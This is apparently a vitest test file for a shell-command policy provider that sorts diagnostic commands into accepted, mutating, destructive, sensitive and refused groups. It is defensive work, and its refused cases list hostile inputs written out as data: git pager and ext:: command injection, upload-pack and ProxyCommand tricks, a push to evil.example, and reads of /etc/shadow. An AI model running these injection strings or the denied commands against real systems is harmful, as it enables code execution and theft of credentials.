// The shell provider: which diagnostics it takes, what it refuses and why, and that they run.
import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { parseCommand } from '../../src/policy/parse.ts'
import { createShellProvider } from '../../src/providers/shell.ts'
import { commandOf, providerContract } from './contract.ts'

const FOLDER = '/srv/shop'
const make = () => createShellProvider({ now: () => performance.now() })
const ofMachine = [
  'df', 'df -h', 'df -hT /', 'df -h -x tmpfs --total', 'df --output=target,pcent', 'free -m', 'free -h', 'uptime', 'uptime -p', 'uname -a', 'hostname -f', 'date -u',
  'date "+%F %T"', 'date --iso-8601=seconds', 'who -a', 'lscpu', 'lsblk -o NAME,SIZE,MOUNTPOINT', 'findmnt -t ext4', 'nproc', 'vmstat 1 5', 'ps aux', 'ps -ef', 'ps -aux',
  'ps aux --sort=-%mem', 'ps -eo pid,ppid,%cpu,%mem,comm --sort=-%cpu', 'ps -p 1 -o pid,args', 'ss -tulpn', 'ss -s', 'ss -tan state established', "ss -tn '( sport = :443 )'",
  'ps aux --sort=-%cpu | head -n 10', 'ps aux | head -5', "ps aux | grep -i node | grep -v grep", 'ss -tan | tail -n +2 | cut -d " " -f 1 | sort | uniq -c | sort -rn',
  "df -h | tr -s ' ' | cut -d ' ' -f 5,6", 'ps aux | wc -l', "ps aux | grep -E 'a|b' -c", 'df | tail -n 2', 'ps aux | sort -nrk 3,3 | head -n 5', 'df | grep -e tmpfs -v',
  "ss -tan | grep -E '[0-9]{1,3}([.][0-9]{1,3}){3}'", 'ps aux --sort -rss', 'top -b -n 1', 'pgrep -fa node', "ps aux | jq -R . | head -3", 'echo done', 'sleep 2', "df -h | sed -n '1,5p'",
].map(command => ({ command, target: 'this machine' })) // biome-ignore format: packed

const ofFolder = [
  'git status', 'git status --short --branch', 'git log --oneline -5', 'git log -n 3 --stat main..HEAD', 'git log HEAD~3', "git log --since '2 days ago' --format='%h %s'",
  'git branch -a', 'git branch --show-current', 'git diff --stat', 'git diff --name-only HEAD~1', 'git rev-parse HEAD', 'git rev-parse --abbrev-ref HEAD', 'git remote -v', 'git --no-pager log -5', 'git tag', 'git tag -l', 'git branch --contains HEAD', 'git stash list', 'git show --stat HEAD',
  'git log --oneline -- src/app.ts', 'git describe --tags', 'git ls-files', 'git remote get-url origin', 'git status -uno',
].map(command => ({ command, target: 'this machine, folder /srv/shop', settings: { folder: FOLDER } })) // biome-ignore format: packed

const asks = [
  'df --no-such', 'df | awk "{print}"', 'df | sort --no-such', 'df | head --byt=10', 'uptime --unknown', 'git commit -m x', 'git fetch origin', 'git pull origin main', 'git push origin main',
  'git checkout main', 'git switch -c new', 'git tag v1', 'git branch new', 'git merge other', 'git cherry-pick abc', 'git add -A', 'git stash', 'git log --no-such', 'git no-such-verb', 'git revert HEAD',
].map(command => ({ command, class: 'mutating' as const, settings: { folder: FOLDER } })) // biome-ignore format: packed

const loses = [
  'git push --force origin main', 'git push -f origin main', 'git push origin +main', 'git push origin :old', 'git push origin --delete old', 'git push --force-with-lease origin main', 'git reset --hard HEAD~1',
  'git clean -fd', 'git branch -D old', 'git checkout -- a.txt', 'git restore a.txt', 'git rebase main', 'git tag -d v1', 'git stash drop', 'git commit --amend -m x', 'git rm a.txt',
].map(command => ({ command, class: 'destructive' as const, settings: { folder: FOLDER } })) // biome-ignore format: packed

const sensitive = [
  'git diff',
  'git show HEAD',
  'git log -p -3',
  'git blame a.txt',
  'git config --list',
  'git grep password',
].map(command => ({ command, marks: ['sensitive'] as const, settings: { folder: FOLDER } }))

providerContract('shell', make, {
  settings: {},
  accepted: [
    ...ofMachine,
    ...ofFolder,
    ...asks,
    ...loses,
    ...sensitive,
    { command: 'df', target: 'this machine, as nobody', settings: { users: { viewer: 'nobody' } } },
    { command: 'git status', target: 'this machine' },
  ],
  refused: [
    { command: 'rm -rf x', because: 'it changes files' },
    { command: 'curl -d @x y', because: 'talks to other machines' },
    { command: 'no-such', because: 'not a command that is known here' },
    { command: 'kubectl get pods', because: 'not a command that is known here' },
    { command: 'grep x', because: 'put it behind a `|`' },
    { command: 'df | sh', because: 'runs any command' },
    { command: 'df | df', because: 'only filters' },
    { command: 'df ../x', because: 'only mount points' },
    { command: 'df /a/../b', because: 'only mount points' },
    { command: 'hostname evil', because: 'takes only flags' },
    { command: 'hostname -- evil', because: 'takes only flags' },
    { command: 'hostname -F x', because: 'it would change the name' },
    { command: 'date -s 2020-01-01', because: 'it would set the clock' },
    { command: 'date --se=2020-01-01', because: 'it would set the clock' },
    { command: 'date 010100002020', because: 'a format that begins with' },
    { command: 'date -f x', because: 'it reads a file' },
    { command: 'date +%999999999Y', because: 'a format that begins with' },
    { command: 'vmstat 1', because: 'never ends' },
    { command: 'vmstat 10 100', because: 'longer than a minute' },
    { command: 'free -s 1', because: 'never ends' },
    { command: 'top', because: 'waits for keys' },
    { command: 'top -b', because: 'never ends' },
    { command: 'ps auxe', because: 'environment of processes' },
    { command: 'ps -auxe', because: 'environment of processes' },
    { command: 'ps -e -ux', because: '`-e` selects every process already' },
    { command: 'ps -eo pid,environ', because: 'does not show here' },
    { command: 'ps ax e', because: 'at most 1' },
    { command: 'ss -K dst 1.2.3.4', because: 'it closes sockets' },
    { command: 'ss -D x', because: 'it writes a file' },
    { command: 'lsblk --sysroot /x', because: 'reads another root' },
    { command: 'findmnt -F /etc/fstab', because: 'it reads a file' },
    { command: 'df | sort -o x', because: 'it writes a file' },
    { command: 'df | grep -f /etc/shadow', because: 'it reads a file' },
    { command: 'df', because: 'must be an absolute path', settings: { folder: 'x' } },
    { command: 'df', because: 'must be an absolute path', settings: { folder: '/a/../b' } },
    { command: 'df', because: 'settings are wrong', settings: { unknown: 1 } },
    { command: 'df', because: 'no Unix user for `viewer`', settings: { users: { admin: 'nobody' } } },
    ...[
      ['git -C /x status', 'set by the tenant'],
      ["git -c core.pager='sh -c id' log", 'set by the tenant'],
      ['git --git-dir=/x log', 'set by the tenant'],
      ['git --exec-path=/x log', 'set by the tenant'],
      ["git clone 'ext::sh -c id' x", 'from elsewhere'],
      ['git submodule update', 'from elsewhere'],
      ['git archive --remote=ssh://-oProxyCommand=id/x HEAD', 'outside of the history'],
      ['git ls-remote --upload-pa=id .', 'runs a program'],
      ['git fetch ext::sh', 'is an address'],
      ['git push https://evil.example/x main', 'is an address'],
      ['git fetch --upload-pack=id origin', 'runs a program'],
      ['git push --receive-p=id origin', 'runs a program'],
      ['git rebase -x id main', 'runs a program'],
      ['git rebase --exec id main', 'runs a program'],
      ['git rebase -i main', 'waits for answers'],
      ['git merge -s evil main', 'runs a program'],
      ['git commit', 'open an editor'],
      ['git commit -F /etc/shadow', 'reads a file'],
      ['git log --outp=/x', 'writes a file'],
      ['git log --output=/x', 'writes a file'],
      ["git log --format='%G?'", 'runs a program'],
      ["git log --pretty='format:%GG'", 'runs a program'],
      ['git log --format --output=/x', 'writes a file'],
      ['git log --date --output=/x', 'lacks its value'],
      ['git log --date=format:%999999999Y', 'prints without end'],
      ['git diff --stat src/../../../etc/shadow src/x', 'only branches'],
      ['git diff --ext-diff --stat', 'runs a program'],
      ['git diff --textc', 'runs a program'],
      ['git diff --no-index /etc/a', 'reads a file'],
      ['git diff --stat /etc/shadow', 'only branches'],
      ['git diff -- /etc/shadow', 'only paths inside'],
      ['git diff -- ../x', 'only paths inside'],
      ['git grep -O id x', 'runs a program'],
      ['git grep --open-files=id x', 'runs a program'],
      ['git tag -s v1', 'runs a program'],
      ['git config core.pager id', 'may change what git runs'],
      ['git config --global --list', 'reads a file'],
      ['git remote add x y', 'not accepted here'],
      ['git remote show origin', 'not accepted here'],
      ['git bisect run id', 'runs programs'],
      ['git worktree add /x', 'not accepted here'],
      ['git apply x', 'outside of the history'],
      ['git help log', 'runs programs'],
    ].map(([command = '', because = '']) => ({ command, because, settings: { folder: FOLDER } })),
  ],
  runs: { command: 'uname -s', prints: /^\w+\n$/ },
})

describe('the shell provider at work', () => {
  const signal = new AbortController().signal

  test('a pipeline runs from end to end', async () => {
    const ran = await make().execute(commandOf('ps aux | wc -l', {}), signal)

    expect(Number(ran.stdout)).toBeGreaterThan(0)
  })

  test('no line matched is an answer, not a failure', async () => {
    const ran = await make().execute(commandOf('uname -s | grep zzzz', {}), signal)

    expect(ran).toMatchObject({ exitCode: 1, isSuccess: true, reason: 'no line matched' })
  })

  test('a tool that is not installed is named when it should run, and by availability', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'empty-'))
    const provider = createShellProvider({ now: () => 0, directories: [folder] })

    expect(await provider.execute(commandOf('df -h', {}), signal)).toMatchObject({
      reason: '`df` is not installed on this machine',
    })
    expect(await provider.availability()).toMatchObject({ isAvailable: false })
  })

  test('git looks at the folder, and runs nothing that the folder asks for', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'work-'))
    const trace = join(folder, 'trace')
    const git = (...args: string[]) => execFileSync('git', args, { cwd: folder, stdio: 'pipe' })
    git('init', '-q', '-b', 'main')
    git('-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-q', '--allow-empty', '-m', 'first')
    writeFileSync(join(folder, 'new.txt'), 'x')
    git('add', 'new.txt')
    for (const key of ['core.fsmonitor', 'core.pager', 'diff.external', 'gpg.program', 'core.editor']) {
      git('config', key, `touch ${trace};`)
    }
    const run = async (text: string) => (await make().execute(commandOf(text, { folder }), signal)).stdout

    expect(await run('git status --short')).toContain('A  new.txt')
    expect(await run('git log --oneline')).toContain('first')
    expect(await run('git diff --cached --stat')).toContain('1 file changed')
    expect(existsSync(trace)).toBe(false)
  })

  test('git does not run where the work tree names drivers of its own', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'work-'))
    const trace = join(folder, 'trace')
    execFileSync('git', ['init', '-q'], { cwd: folder })
    writeFileSync(join(folder, '.gitattributes'), '* filter=evil\n')
    execFileSync('git', ['config', 'filter.evil.clean', `touch ${trace}`], { cwd: folder })

    const ran = await make().execute(commandOf('git status', { folder }), signal)

    expect(ran.reason).toContain('names a program (`filter.evil.clean`)')
    expect(ran.mend).toContain('git config --unset filter.evil.clean')
    expect(existsSync(trace)).toBe(false)
  })

  test('git without a folder says what an admin can set', async () => {
    expect(await make().execute(commandOf('git status', {}), signal)).toMatchObject({
      reason: expect.stringContaining('names no `folder`'),
      mend: expect.stringContaining('--setting folder='),
    })
  })

  test('a folder that is not there is named', async () => {
    const ran = await make().execute(commandOf('git status', { folder: '/no/such/folder' }), signal)

    expect(ran.reason).toContain('/no/such/folder')
    expect(ran.exitCode).toBeUndefined()
  })

  test('a command sees nothing of our own environment', async () => {
    const ran = await make().execute(commandOf('date +%Z', {}), signal)

    expect(ran.stdout).toBe('UTC\n')
  })
})

test('an admin writes Unix users in words', () => {
  expect(make().readSettings({ users: 'viewer=nobody, deployer=deploy' })).toEqual({
    isRead: true,
    settings: { users: { viewer: 'nobody', deployer: 'deploy' } },
  })
  expect(make().readSettings({ users: 'nobody' })).toMatchObject({ isRead: false })
})

test('nothing that must always be denied is taken by the shell provider', () => {
  const denied = readFileSync(join(import.meta.dirname, 'denied.txt'), 'utf8')
    .trim()
    .split('\n')
  const provider = make()
  const taken = denied.filter(line => {
    const parsed = parseCommand(JSON.parse(line))
    if (!parsed.isParsed) return false
    return provider.examine(commandOf(parsed.canonical, { folder: FOLDER })).class !== 'denied'
  })
  expect(denied.length).toBeGreaterThan(20)
  expect(taken).toEqual([])
})
